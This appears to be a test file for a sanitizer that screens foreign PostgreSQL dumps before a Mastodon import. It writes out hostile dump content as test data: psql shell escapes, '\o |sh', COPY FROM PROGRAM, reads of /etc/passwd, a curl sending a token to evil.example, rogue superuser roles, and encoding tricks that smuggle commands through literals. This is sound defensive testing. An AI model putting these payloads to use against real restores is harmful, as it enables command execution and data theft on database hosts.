import { existsSync, rmSync } from 'node:fs'
import { Readable } from 'node:stream'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { fileSource } from '../../../../src/lib/backups/foreign/source.js'
import { sqlOf, surveyOf } from '../../../../src/lib/backups/foreign/sql.js'
import { RefusedError } from '../../../../src/lib/errors.js'
import { feedPsql } from '../../../support/postgres-clients.js'
import { type Dumps, makeDumps, runner, sqlKindOf } from './dumps.js'

const FULL = process.env.MSTDN_TEST_FULL === '1'
if (FULL) vi.setConfig({ testTimeout: 600_000 })
let dumps: Dumps
let plain: string

beforeAll(async () => {
  dumps = await makeDumps()
  plain = dumps.dump(['-t', 'oddities', '-t', 'odd_view', '-t', 'schema_migrations']).toString('latin1')
})
afterAll(() => dumps.stop())

const canary = () => `${dumps.dir}/canary`
/** What a shell would be told to do. */
const shell = () => `\\! touch ${canary()}`

/** A small dump around some SQL, as pg_dump would write it. */
function dumpOf(sql: string): string {
  const head =
    "--\n-- PostgreSQL database dump\n--\n\nSET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\n"
  return `${head}${sql}\n--\n-- PostgreSQL database dump complete\n--\n\n`
}

async function sqlFrom(text: string): Promise<Readable> {
  const path = dumps.put('hostile.sql', Buffer.from(text, 'latin1'))
  return sqlOf(fileSource(path), await sqlKindOf(path), { database: undefined, runner })
}

/** Returns the code of the refusal, or the SQL that is handed on. */
async function handedOn(text: string): Promise<string> {
  try {
    return Buffer.concat(await (await sqlFrom(text)).toArray()).toString('latin1')
  } catch (error) {
    if (error instanceof RefusedError) return error.code
    throw error
  }
}

describe('a command for psql is refused, wherever it stands', () => {
  const table = 'CREATE TABLE public.x (a text);\n'
  test.each<[string, () => string, string]>([
    ['on a line of its own', () => `${shell()}\n`, 'dump-commands-psql'],
    ['after SQL', () => `${table.trim()} ${shell()}\n`, 'dump-commands-psql'],
    ['inside of a statement', () => `CREATE TABLE public.x (\n${shell()}\n);\n`, 'dump-commands-psql'],
    ['\\copy from a program', () => `${table}\\copy public.x FROM PROGRAM 'id'\n`, 'dump-commands-psql'],
    ['\\i', () => '\\i /etc/passwd\n', 'dump-commands-psql'],
    ['\\o |', () => '\\o |sh\n', 'dump-commands-psql'],
    ['\\gexec', () => 'CREATE TABLE public.y (a text) \\gexec\n', 'dump-commands-psql'],
    ['\\set with backticks', () => '\\set a `id`\n', 'dump-commands-psql'],
    ['\\restrict with more', () => `\\restrict abc \\! id\n`, 'dump-commands-psql'],
    ['\\connect with more', () => `\\connect x \\! id\n`, 'dump-commands-psql'],
    ['\\connect to another server', () => '\\connect "host=evil.example dbname=x"\n', 'dump-commands-psql'],
    ['\\encoding of letters that hold a backslash', () => '\\encoding SJIS\n', 'dump-commands-psql'],
    ['after the end of data', () => `${table}COPY public.x (a) FROM stdin;\n\\.\n${shell()}\n`, 'dump-commands-psql'],
    ['on the line of the end of data', () => `${table}COPY public.x (a) FROM stdin;\n\\. ${shell()}\n`, 'dump-damaged'],
    [
      'as data of a table that is not filled',
      () => `${table}COPY public.x (a) FROM stdin; SELECT 1;\n${shell()}\n`,
      'dump-strange',
    ],
    [
      'as data while psql waits for a parenthesis',
      () => `CREATE TABLE public.y (;\nCOPY public.x (a) FROM stdin;\n${shell()}\n`,
      'dump-commands-psql',
    ],
    [
      'as data of a COPY inside of a function',
      () =>
        `CREATE FUNCTION public.f() RETURNS int BEGIN ATOMIC SELECT 1;\nCOPY public.x (a) FROM stdin;\n${shell()}\n`,
      'dump-strange',
    ],
    ['behind an unknown way to quote', () => `COMMENT ON TABLE public.x IS U&'\\' ${shell()} --';\n`, 'dump-damaged'],
    ['behind a national literal', () => `COMMENT ON TABLE public.x IS N'\\';\n${shell()}\n`, 'dump-damaged'],
    ['behind a dollar in a name', () => `CREATE TABLE public.x$a$ (a text);\n${shell()}\n`, 'dump-damaged'],
    ['behind a comment', () => `/* */ ${shell()}\n`, 'dump-damaged'],
    ['in a variable', () => `COMMENT ON TABLE public.x IS :LAST_ERROR_MESSAGE;\n`, 'dump-damaged'],
  ])('%s', async (_, sql, code) => {
    expect(await handedOn(dumpOf(sql()))).toMatch(new RegExp(`^${code}`))
  })

  test('the refusal names the line and the command, never its arguments', async () => {
    const path = dumps.put('named.sql', dumpOf('\\! curl https://token@evil.example\n'))
    const bytes = Readable.from([Buffer.from(dumpOf('\\! curl https://token@evil.example\n'))])
    const error = await surveyOf(bytes, { path, cluster: false }).catch(thrown => thrown)
    expect(error.why).toContain('Line 7: the command \\!.')
    expect(JSON.stringify(error)).not.toMatch(/curl|token|evil/)
  })
})

test.each([
  'DO $$ BEGIN PERFORM 1; END $$;',
  'COMMIT;',
  "COPY public.x FROM PROGRAM 'id';",
  "COPY public.x TO '/tmp/x';",
  "SELECT pg_catalog.pg_read_file('/etc/passwd');",
  "SELECT pg_catalog.lo_create('1');",
  'SET standard_conforming_strings = off;',
  "SET client_encoding = 'SJIS';",
  "ALTER SYSTEM SET archive_command = 'id';",
  "LOAD 'evil';",
  'INSERT INTO public.x SELECT 1;',
])('refused, for no pg_dump of Mastodon writes it: %s', async sql => {
  expect(await handedOn(dumpOf(`${sql}\n`))).toMatch(/^dump-/)
})

test.each([
  "CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p;",
  'CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION public.f();',
  'CREATE ROLE evil SUPERUSER;',
  'ALTER TABLE public.x OWNER TO "the owner";',
  'GRANT ALL ON TABLE public.x TO PUBLIC;',
  'SET SESSION AUTHORIZATION evil;',
  'SET transaction_timeout = 0;',
  'DROP DATABASE mastodon;',
])('left out: %s', async sql => {
  expect(await handedOn(dumpOf(`${sql}\n`))).not.toContain(sql.slice(0, 12))
  expect(await handedOn(dumpOf(`${sql}\n`))).toContain('COMMIT;')
})

/** Settings that a dump can change on its way, by the default of a column, and a literal that then ends elsewhere. */
const TRAPS: [string, string, () => string][] = [
  ['strings', "set_config('standard_conforming_strings', 'off', false)", () => `'\\'' ${shell()} \n ''\\'''`],
  ['letters', "set_config('client_encoding', 'SJIS', false)", () => `'\u00c2\u0095'' ${shell()} \n ''x'''`],
]

describe.each(TRAPS)('psql reads %s otherwise than they were written', (_, setting, literal) => {
  const trap = () =>
    dumpOf(
      `CREATE TABLE public.x (a text DEFAULT ${setting});\nINSERT INTO public.x DEFAULT VALUES;\nCOMMENT ON TABLE public.x IS ${literal()};\n`,
    )

  test('the trap works on psql itself', async () => {
    const file = dumps.put('trap.sql', Buffer.from(trap(), 'latin1'))
    await feedPsql(Readable.from([Buffer.from(trap(), 'latin1')]), await dumps.emptyDatabase(), dumps.server)
    expect(existsSync(canary()), file).toBe(true)
  })

  test('and not on what is handed on', async () => {
    rmSync(canary(), { force: true })
    const result = await feedPsql(await sqlFrom(trap()), await dumps.emptyDatabase(), dumps.server)
    expect(result.broke).toBeUndefined()
    expect(existsSync(canary())).toBe(false)
  })
})

test('wherever it is put into a real dump, no shell is started', async () => {
  rmSync(canary(), { force: true })
  const places = fc.tuple(
    fc.integer({ min: 200, max: plain.length - 1 }),
    fc.constantFrom('', '\n', ';\n', "'", "';\n", '"', '$$', '\\.\n', ');', '\t', '--', "E'\\'", '\\'),
    fc.constantFrom('', '\n', "\n'", '\n--', '\n\\.\n'),
  )
  let accepted = 0
  await fc.assert(
    fc.asyncProperty(places, async ([at, before, after]) => {
      const text = plain.slice(0, at) + before + shell() + after + plain.slice(at)
      if ((await handedOn(text)).startsWith('dump-')) return
      accepted += 1
      await feedPsql(await sqlFrom(text), await dumps.emptyDatabase(), dumps.server)
      expect(existsSync(canary())).toBe(false)
    }),
    { numRuns: FULL ? 1500 : 60 },
  )
  // In a comment, a literal or a row it is text like any other.
  expect(accepted).toBeGreaterThan(0)
})

test('what stands in literals and comes out of psql is the same, letter for letter', async () => {
  const database = await dumps.emptyDatabase()
  const open = await dumps.server.open(database)
  const letters = fc.string({
    unit: fc.constantFrom(...('a\'\\"$;:-/*\n\t\rE é日🐘\u0095{}`%nx0'.match(/./gsu) ?? [])),
  })
  const texts = fc.sample(letters, FULL ? 2000 : 150)
  const literal = (text: string) => `'${text.replaceAll("'", "''")}'`
  const escaped = (text: string) => `E'${text.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('\n', '\\n')}'`
  const rows = texts.map((text, at) => `(${at}, ${literal(text)}, ${escaped(text)}, $tag$${text}$tag$)`)
  const sql = `CREATE TABLE public.t (id integer, a text, b text, c text);\nINSERT INTO public.t VALUES ${rows.join(',\n')};\n`
  const result = await feedPsql(await sqlFrom(Buffer.from(dumpOf(sql)).toString('latin1')), database, dumps.server)
  expect(result).toEqual({ code: 0, stderr: '', broke: undefined })
  const found = await open.query('SELECT a, b, c FROM t ORDER BY id')
  expect(found).toEqual(texts.map(text => ({ a: text, b: text, c: text })))
  await open.close()
})
